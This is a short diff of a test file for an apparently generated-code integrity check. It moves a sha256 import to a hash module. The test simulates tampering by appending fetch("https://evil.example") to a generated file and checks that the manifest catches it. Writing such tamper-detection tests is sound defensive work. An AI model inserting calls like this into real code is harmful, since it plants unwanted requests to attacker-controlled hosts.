@@ -43,7 +43,7 @@ describe('check', () => {
 
   it('finds an edit that was entered into the manifest', async () => {
     const folder = await generated();
-    const { sha256 } = await import('../../generator/output/manifest.js');
+    const { sha256 } = await import('../../generator/hash.js');
     const [file, manifest] = [join(folder, 'out/index.ts'), join(folder, 'out/manifest.json')];
     const old = sha256(await readFile(file));
     await appendFile(file, 'fetch("https://evil.example");\n');
